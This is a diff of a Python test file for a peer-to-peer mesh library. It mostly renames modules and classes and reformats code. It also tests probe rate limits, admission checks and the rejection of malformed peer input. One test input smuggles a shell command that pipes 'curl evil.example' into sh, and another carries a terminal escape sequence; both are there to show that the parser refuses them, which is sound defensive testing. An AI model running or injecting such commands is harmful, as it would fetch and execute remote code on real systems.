@@ -16,12 +16,12 @@ from p2pfl.errors.membership import Revoked
 from p2pfl.errors.mesh import OurKeyNotListed, RefusedThere
 from p2pfl.errors.probe import ProbeUnanswered
 from p2pfl.keys import Identity
-from p2pfl.mesh import LinkDown, answers, opening, probe
-from p2pfl.mesh.appointments import Wish, wishes
-from p2pfl.mesh.desk import Desk
-from p2pfl.mesh.knock import Admitted, knock
-from p2pfl.mesh.probe import About, Facts
+from p2pfl.mesh import LinkClosed, opening, probe, probe_server
+from p2pfl.mesh.doctor_port import DoctorPort
+from p2pfl.mesh.handshake import Admitted, knock
+from p2pfl.mesh.probe import About, PeerFacts
 from p2pfl.mesh.relay import YOU_ARE_CALLED, YOU_CALLED
+from p2pfl.mesh.rendezvous import CallRequest, wishes
 from p2pfl.roster import Roster
 from tests.mesh.doctors import MANIFEST, caller, probing
 from tests.mesh.sites import QUICK, Greetings, Sites, running
@@ -61,7 +61,7 @@ def test_a_probe_measures_sizes_and_speed_while_the_pairs_link_goes_on() -> None
                 to, back = await asker.speed()
                 assert min(to, back) > 0
                 assert await ada.payloads("bob", 20) == sent
-            assert not [event for event in ada.seen + bob.seen if isinstance(event, LinkDown)]
+            assert not [event for event in ada.seen + bob.seen if isinstance(event, LinkClosed)]
 
     asyncio.run(scene())
 
@@ -70,9 +70,12 @@ def test_a_peer_dials_back_only_where_its_own_file_lists_the_one_that_asks() -> 
     async def scene() -> None:
         sites = Sites(*SITES)
         nowhere, here = sites.addresses["cyd"], sites.addresses["bob"]
-        listed = Roster(1, tuple(
-            replace(one, addresses=(nowhere, here)) if one.name == "bob" else one for one in sites.roster.members
-        ))  # fmt: skip
+        listed = Roster(
+            1,
+            tuple(
+                replace(one, addresses=(nowhere, here)) if one.name == "bob" else one for one in sites.roster.members
+            ),
+        )
         async with running(sites.mesh("ada", roster=listed), sites.mesh("bob")):
             # What the caller's own file lists for it makes no difference.
             mine = caller(sites, "bob", roster=sites.reached_at("bob", sites.addresses["ada"]))
@@ -114,9 +117,9 @@ def test_a_stranger_that_would_probe_is_turned_away_before_it_can_ask() -> None:
     async def scene() -> None:
         sites = Sites(*SITES)
         stranger = Identity.generate()
-        odd = Roster(1, tuple(
-            replace(one, key=stranger.key) if one.name == "bob" else one for one in sites.roster.members
-        ))  # fmt: skip
+        odd = Roster(
+            1, tuple(replace(one, key=stranger.key) if one.name == "bob" else one for one in sites.roster.members)
+        )
         async with running(sites.mesh("ada", about=About("1", MANIFEST))) as (ada,):
             with pytest.raises(OurKeyNotListed):
                 await knock(caller(sites, "bob", roster=odd, identity=stranger), "ada", sites.addresses["ada"])
@@ -150,7 +153,7 @@ def test_a_member_that_is_not_admitted_gets_neither_a_probe_nor_a_greeting_nor_a
 
 @contextlib.asynccontextmanager
 async def desk_of(sites: Sites, name: str, admit: Callable[[str], None]) -> AsyncIterator[None]:
-    desk = Desk(caller(sites, name), About("1", MANIFEST, probe.DOCTOR), admit=admit)
+    desk = DoctorPort(caller(sites, name), About("1", MANIFEST, probe.DOCTOR), admit=admit)
     desk.open(sites.addresses[name])
     try:
         yield
@@ -161,8 +164,8 @@ async def desk_of(sites: Sites, name: str, admit: Callable[[str], None]) -> Asyn
 def test_a_member_that_floods_probes_is_refused_when_its_purse_is_empty_and_that_is_told_once(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    monkeypatch.setattr(answers, "PURSE_BYTES", 3 * answers.PROBE_BYTES)
-    monkeypatch.setattr(answers, "REFILL_BYTES_PER_S", 0)
+    monkeypatch.setattr(probe_server, "PURSE_BYTES", 3 * probe_server.PROBE_BYTES)
+    monkeypatch.setattr(probe_server, "REFILL_BYTES_PER_S", 0)
 
     async def scene() -> None:
         sites = Sites(*SITES)
@@ -170,7 +173,7 @@ def test_a_member_that_floods_probes_is_refused_when_its_purse_is_empty_and_that
         async with running(sites.mesh("ada", roster=without_links(sites))) as (ada,):
             for left in (2, 1, 0):
                 async with probing(bob, "ada", sites.addresses["ada"]) as (_, facts):
-                    assert facts.grant == left * answers.PROBE_BYTES
+                    assert facts.grant == left * probe_server.PROBE_BYTES
             for _ in range(3):
                 with pytest.raises(RefusedThere) as caught:
                     async with probing(bob, "ada", sites.addresses["ada"]):
@@ -187,7 +190,7 @@ def test_a_member_that_floods_probes_is_refused_when_its_purse_is_empty_and_that
 
 @pytest.mark.parametrize("way", ["to", "from"])
 def test_a_probe_moves_no_more_bytes_than_it_was_granted(way: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(answers, "GRANT_BYTES", 100_000)
+    monkeypatch.setattr(probe_server, "GRANT_BYTES", 100_000)
 
     async def scene() -> None:
         sites = Sites(*SITES)
@@ -288,8 +291,10 @@ def test_what_costs_much_is_answered_once_in_a_probe(kind: int) -> None:
 def test_who_asks_to_be_dialled_again_and_again_is_dialled_until_its_purse_is_empty(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    monkeypatch.setattr(answers, "PURSE_BYTES", 2 * (answers.PROBE_BYTES + answers.DIAL_BYTES) + answers.PROBE_BYTES)
-    monkeypatch.setattr(answers, "REFILL_BYTES_PER_S", 0)
+    monkeypatch.setattr(
+        probe_server, "PURSE_BYTES", 2 * (probe_server.PROBE_BYTES + probe_server.DIAL_BYTES) + probe_server.PROBE_BYTES
+    )
+    monkeypatch.setattr(probe_server, "REFILL_BYTES_PER_S", 0)
 
     async def scene() -> None:
         sites = Sites(*SITES)
@@ -333,11 +338,11 @@ def test_a_knock_that_parts_leaves_no_trace_at_the_door() -> None:
 
 
 def test_a_purse_fills_slowly_and_never_above_its_size() -> None:
-    purse = answers.purse(0.0)
-    assert purse.take(0.0, answers.PURSE_BYTES)
+    purse = probe_server.purse(0.0)
+    assert purse.take(0.0, probe_server.PURSE_BYTES)
     assert not purse.take(0.0, 1)
-    assert purse.left(2.0) == 2 * answers.REFILL_BYTES_PER_S
-    assert purse.left(1e9) == answers.PURSE_BYTES
+    assert purse.left(2.0) == 2 * probe_server.REFILL_BYTES_PER_S
+    assert purse.left(1e9) == probe_server.PURSE_BYTES
 
 
 def test_the_greeter_is_not_asked_for_a_probe() -> None:
@@ -362,7 +367,7 @@ def test_the_specifications_example_of_a_probe_is_what_the_library_says() -> Non
     shown = {line.split()[0]: bytes.fromhex(line.split()[1]) for line in lines}
     said = {
         "PROBE": framed(opening.PROBE, b""),
-        "FACTS": framed(probe.FACTS, Facts.of(About("0.1.0", b"version: 1\n"), 1 << 24).encode()),
+        "FACTS": framed(probe.FACTS, PeerFacts.of(About("0.1.0", b"version: 1\n"), 1 << 24).encode()),
         "PING": framed(probe.PING, probe.ping(1_000_000)),
         "PONG": framed(probe.PONG, probe.pong(1_000_000, 1_750_000_000.25)),
         "FILL": framed(probe.FILL, bytes(3)),
@@ -371,8 +376,8 @@ def test_the_specifications_example_of_a_probe_is_what_the_library_says() -> Non
         "DIALED": framed(probe.DIALED, probe.dialed([probe.Dialed("10.0.0.1:7443", 12)])),
         "FILE": framed(probe.FILE, b""),
         "FILED": framed(probe.FILED, b"version: 1\n"),
-        "MEET": framed(probe.MEET, wishes([Wish("cyd", YOU_CALLED), Wish("cyd", YOU_ARE_CALLED)])),
-        "MET": framed(probe.MET, wishes([Wish("cyd", YOU_CALLED, bytes(range(16)))])),
+        "MEET": framed(probe.MEET, wishes([CallRequest("cyd", YOU_CALLED), CallRequest("cyd", YOU_ARE_CALLED)])),
+        "MET": framed(probe.MET, wishes([CallRequest("cyd", YOU_CALLED, bytes(range(16)))])),
         "DUPLICATE": framed(opening.DUPLICATE, b""),
     }
     assert shown == said
@@ -382,10 +387,20 @@ def framed(kind: int, body: bytes) -> bytes:
     return bytes([kind]) + len(body).to_bytes(4, "big") + body
 
 
-@pytest.mark.parametrize("body", [b"", b"{}{", b"[1]", b'[["a"]]', b'[["a:1", "b", "c", "d", "e", "f"]]', b"[" * 9999,
-                                  json.dumps([["a:1", 1, "", "", "", "too many"]]).encode(),
-                                  json.dumps([["a:1' ; curl evil.example | sh ; '", 1, "", "", ""]]).encode(),
-                                  json.dumps([["a\x1b[2J:1", 1, "", "", ""]]).encode()])  # fmt: skip
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"",
+        b"{}{",
+        b"[1]",
+        b'[["a"]]',
+        b'[["a:1", "b", "c", "d", "e", "f"]]',
+        b"[" * 9999,
+        json.dumps([["a:1", 1, "", "", "", "too many"]]).encode(),
+        json.dumps([["a:1' ; curl evil.example | sh ; '", 1, "", "", ""]]).encode(),
+        json.dumps([["a\x1b[2J:1", 1, "", "", ""]]).encode(),
+    ],
+)
 def test_what_a_peer_says_of_its_dialling_has_one_form(body: bytes) -> None:
     with pytest.raises(probe.MalformedStream):
         probe.read_dialed("ada", body)
@@ -400,5 +415,5 @@ def test_a_peers_words_are_safe_to_show() -> None:
 @pytest.mark.parametrize("body", [b"", bytes(38), b"\x00\x02" + bytes(37)])
 def test_facts_of_another_form_or_version_are_refused(body: bytes) -> None:
     with pytest.raises(Exception, match=r"not p2pfl's|version 2|opens links in version 0") as caught:
-        Facts.decode("ada", body)
+        PeerFacts.decode("ada", body)
     assert getattr(caught.value, "code", "") in ("P2P-MESH-019", "P2P-MESH-023")
